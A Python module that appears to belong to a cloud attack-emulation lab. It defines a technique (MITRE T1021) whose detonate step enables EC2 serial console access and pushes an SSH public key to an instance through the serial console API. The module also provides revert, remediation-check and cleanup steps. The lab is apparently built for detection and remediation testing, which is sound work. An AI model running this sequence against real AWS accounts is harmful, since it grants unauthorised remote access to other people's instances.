"""ec2-serial-console-send-ssh-public-key: turn on the serial console and push a key through it
(T1021)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.target_instance import delete_target, ensure_target
from lab.attacks.techniques.ec2_send_ssh_public_key import PUBLIC_KEY
from lab.emulator.endpoints import Endpoints


def serial_console_enabled(endpoints: Endpoints, actor: str = "observer") -> bool:
    return bool(
        endpoints.client("ec2", actor).get_serial_console_access_status()[
            "SerialConsoleAccessEnabled"
        ]
    )


class Ec2SerialConsoleSendSshPublicKey(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        prerequisites = ensure_target(endpoints, self.id)
        self.revert(endpoints, prerequisites)
        return prerequisites

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ec2", "attacker").enable_serial_console_access()
        endpoints.client("ec2-instance-connect", "attacker").send_serial_console_ssh_public_key(
            InstanceId=prerequisites["instance_id"], SerialPort=0, SSHPublicKey=PUBLIC_KEY
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """Serial console access is off for the account again (it is off by default)."""
        return not serial_console_enabled(endpoints)

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if serial_console_enabled(endpoints, "harness"):
            endpoints.client("ec2", "harness").disable_serial_console_access()

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        self.revert(endpoints, prerequisites)
        delete_target(endpoints, prerequisites, self.id)


TECHNIQUE = Ec2SerialConsoleSendSshPublicKey
